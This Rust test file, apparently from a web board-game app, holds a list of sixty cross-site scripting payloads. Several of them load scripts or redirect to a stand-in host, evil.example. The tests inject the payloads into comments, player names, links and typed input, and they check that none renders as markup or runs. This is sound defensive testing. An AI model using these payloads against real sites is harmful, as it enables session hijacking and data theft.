//! Sixty texts that would run in a page that takes them for anything but texts, in every field that
//! takes one.

use serde_json::{Value, json};

use crate::page::Page;

/// None has a brace, which would end a comment of a record, and all are shorter than the longest
/// name.
const PAYLOADS: [&str; 60] = [
    "<script>hacked()</script>",
    "<ScRiPt>hacked()</sCrIpT>",
    "<script src=data:,hacked()></script>",
    "<script src=//evil.example/x.js></script>",
    "<script>hacked()//",
    "<<script>hacked()//<</script>",
    "</script><script>hacked()</script>",
    "</title><script>hacked()</script>",
    "</textarea><script>hacked()</script>",
    "</style><script>hacked()</script>",
    "--><script>hacked()</script>",
    "]]><script>hacked()</script>",
    "\"><script>hacked()</script>",
    "'><script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    "<img/src=x/onerror=hacked()>",
    "<img src=x:x onerror=hacked()//>",
    "<image src=x onerror=hacked()>",
    "<img src=javascript:hacked()>",
    "<svg onload=hacked()>",
    "<svg/onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x>",
    "<svg><a href=javascript:hacked()><text>x</text></a>",
    "<body onload=hacked()>",
    "<iframe src=javascript:hacked()></iframe>",
    "<iframe srcdoc='<script>hacked()</script>'></iframe>",
    "<iframe onload=hacked()></iframe>",
    "<object data=javascript:hacked()></object>",
    "<embed src=javascript:hacked()>",
    "<a href=javascript:hacked()>x</a>",
    "<a href='java\u{a0}script:hacked()'>x</a>",
    "<form action=javascript:hacked()><input type=submit>",
    "<button formaction=javascript:hacked()>x</button>",
    "<input onfocus=hacked() autofocus>",
    "<select onfocus=hacked() autofocus>",
    "<textarea onfocus=hacked() autofocus>",
    "<details open ontoggle=hacked()>",
    "<video><source onerror=hacked()></video>",
    "<audio src=x onerror=hacked()>",
    "<marquee onstart=hacked()>x</marquee>",
    "<math><mtext><script>hacked()</script></mtext></math>",
    "<template><script>hacked()</script></template>",
    "<noscript><p title='</noscript><img src=x>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body *:after</style>",
    "<div style=background:url(javascript:hacked())>",
    "<div onmouseover=hacked()>x</div>",
    "<table background=javascript:hacked()>",
    "\" onmouseover=hacked() x=\"",
    "' onmouseover=hacked() x='",
    "javascript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&#60;script&#62;hacked()&#60;/script&#62;",
    "%3Cscript%3Ehacked()%3C/script%3E",
    "\\x3cscript\\x3ehacked()\\x3c/script\\x3e",
    "$(hacked()) `hacked()` '+hacked()+'",
];

/// Payloads that have become an element, or have run.
const HARM: &str = "[...document.querySelectorAll('script, iframe, object, embed, base, \
                    meta[http-equiv], img, video, audio, marquee, math, template, style, [onload], \
                    [onerror], [onfocus], [onmouseover], [onclick], [href^=javascript]')]
    .map((element) => element.outerHTML).filter((html) => \
                    /hacked|evil/.test(html)).concat(window.hackedTimes ?? [])";

fn expect_harmless(page: &Page, what: &str) {
    assert_eq!(page.evaluate(HARM), json!([]), "{what}");
    // A script that the policy stopped would be a problem too: it was there.
}

/// All texts of elements.
fn texts(page: &Page, selector: &str) -> Vec<String> {
    let found = page.evaluate(&format!(
        "[...document.querySelectorAll({selector:?})].map((each) => each.textContent)"
    ));
    serde_json::from_value(found).expect("texts")
}

fn expect_all(found: &[String], what: &str) {
    for payload in PAYLOADS {
        assert!(
            found.iter().any(|text| text.contains(payload)),
            "{what} does not show {payload}: {found:?}"
        );
    }
}

fn open(path: &str) -> Page {
    let page = Page::at(path);
    page.evaluate("void (window.hacked = () => { (window.hackedTimes ??= []).push('it ran'); })");
    page
}

fn tag(text: &str) -> String {
    text.replace('\\', "\\\\").replace('"', "\\\"")
}

#[test]
fn comments_tags_and_links_are_text() {
    let page = open("/analysis");
    // A game of sixty moves back and forth, each with a comment.
    let moves: Vec<String> = PAYLOADS
        .iter()
        .zip(["e2", "e8", "e1", "e9"].iter().cycle())
        .map(|(payload, mv)| format!("{mv} {{{payload}}}"))
        .collect();
    let record = format!(
        "[South \"{}\"]\n[North \"{}\"]\n\n{} *",
        tag(PAYLOADS[0]),
        tag(PAYLOADS[14]),
        moves.join(" ")
    );
    let import = |page: &Page, text: &str| {
        page.click("#tab-text");
        page.evaluate(&format!("void (document.querySelector('#text').value = {})", json!(text)));
        page.click("#import");
    };
    import(&page, &record);
    page.wait_for_count("#tree .comment", 60);
    expect_all(&texts(&page, "#tree .comment"), "the tree");
    assert!(page.text(".player.South .name").contains(PAYLOADS[0]));
    expect_harmless(&page, "an import");
    // The link holds them all.
    page.click("#share");
    page.wait_for("document.querySelector('#text').value.includes('/analysis#game=')");
    let link = page.evaluate("location.pathname + location.hash");
    let friend = open(link.as_str().expect("a link"));
    friend.wait_for_count("#tree .comment", 60);
    expect_all(&texts(&friend, "#tree .comment"), "the link");
    expect_harmless(&friend, "a link");
    // Typed in: the field has what the tree shows.
    let shown = page.evaluate(&format!(
        "(async () => {{
           const shown = [];
           for (const payload of {}) {{
             const field = document.querySelector('[aria-label=Comment]');
             field.value = payload;
             field.dispatchEvent(new Event('change'));
             await new Promise(requestAnimationFrame);
             shown.push([...document.querySelectorAll('#tree .comment')].at(-1).textContent);
           }}
           return shown;
         }})()",
        json!(PAYLOADS.as_slice())
    ));
    assert_eq!(shown, json!(PAYLOADS.as_slice()));
    expect_harmless(&page, "a comment that is typed");
}

#[test]
fn names_of_players_are_text() {
    let page = open("/");
    let pairs: Vec<&[&str]> = PAYLOADS.chunks(2).collect();
    let games: Value = page.evaluate(&format!(
        "Promise.all({}.map(([south, north]) => fetch('/api/games', {{ method: 'POST',
           headers: {{ 'content-type': 'application/json' }},
           body: JSON.stringify({{
             seats: {{ South: {{ human: south }}, North: {{ human: north }} }}
           }}) }}).then((answer) => answer.json())))",
        json!(pairs)
    ));
    let games = games.as_array().expect("thirty games");
    assert_eq!(games.len(), pairs.len());
    // The list, which leaves games without moves out.
    let records = PAYLOADS.map(|name| {
        format!("[South \"{}\"]\n[North \"{}\"]\n\n1. e2 e8 *\n", tag(name), tag(name))
    });
    page.evaluate(&format!(
        "fetch('/api/store/games', {{ method: 'POST', headers: {{ 'content-type': \
         'application/json' }},
           body: JSON.stringify({{ text: {} }}) }}).then((answer) => answer.json())",
        json!(records.join("\n"))
    ));
    let mut listed = Vec::new();
    for path in ["/games", "/games?offset=50"] {
        page.go(path);
        page.wait_for_some(".game-list tbody td");
        listed.extend(texts(&page, ".game-list tbody td"));
        expect_harmless(&page, path);
    }
    expect_all(&listed, "the list of games");
    // At the board, in notices, and to those who listen.
    for (game, names) in games.iter().zip(pairs) {
        let link = format!(
            "/play/{}#{}",
            game["game"].as_str().expect("a game"),
            game["tokens"]["South"].as_str().expect("a secret")
        );
        page.evaluate(&format!(
            "import(document.querySelector('script[type=module]').src).then(({{ go }}) => go({}))",
            json!(link)
        ));
        for (seat, name) in ["South", "North"].iter().zip(names) {
            page.wait_for(&format!(
                "document.querySelector('.player.{seat} .name b')?.textContent === {}",
                json!(name)
            ));
        }
    }
    page.play("e2", 1);
    expect_harmless(&page, "a game");
}

#[test]
fn texts_that_are_refused_are_text() {
    let page = open("/analysis");
    page.click("#tab-text");
    for payload in PAYLOADS {
        page.evaluate(&format!(
            "void (document.querySelector('#text').value = {})",
            json!(payload)
        ));
        page.evaluate("document.querySelectorAll('.found .bad').forEach((each) => each.remove())");
        page.evaluate("document.querySelector('#import').click()");
        page.wait_for("document.querySelector('.found .bad')?.textContent.length > 10");
        page.evaluate(&format!(
            "(() => {{ const field = document.querySelector('.typed-move'); field.value = {}; \
             field.form.requestSubmit(); }})()",
            json!(payload)
        ));
        page.wait_for(&format!("document.body.textContent.includes({})", json!(payload)));
        assert_eq!(page.evaluate(HARM), json!([]), "{payload}");
    }
    // Refusals are answered with a status that the browser notes; nothing else happened.
    let only_refusals = page.problems().iter().all(|problem| problem.contains("status of 400"));
    assert!(only_refusals);
    // Each was refused alone; pages are opened with several at once.
    for payloads in PAYLOADS.chunks(5) {
        let escaped = page.evaluate(&format!("encodeURIComponent({})", json!(payloads.join(" "))));
        let escaped = escaped.as_str().expect("a text");
        for path in [
            format!("/analysis?position={escaped}"),
            format!("/games?player={escaped}&opening={escaped}"),
            format!("/play/{escaped}"),
        ] {
            page.evaluate(&format!(
                "import(document.querySelector('script[type=module]').src)\
                 .then(({{ go }}) => go({}))",
                json!(path)
            ));
            page.wait_for_some("#view > *");
            assert_eq!(page.evaluate(HARM), json!([]), "{path}");
        }
    }
    let problems = page.problems();
    assert!(problems.iter().all(|problem| problem.contains("status of 4")), "{problems:#?}");
}
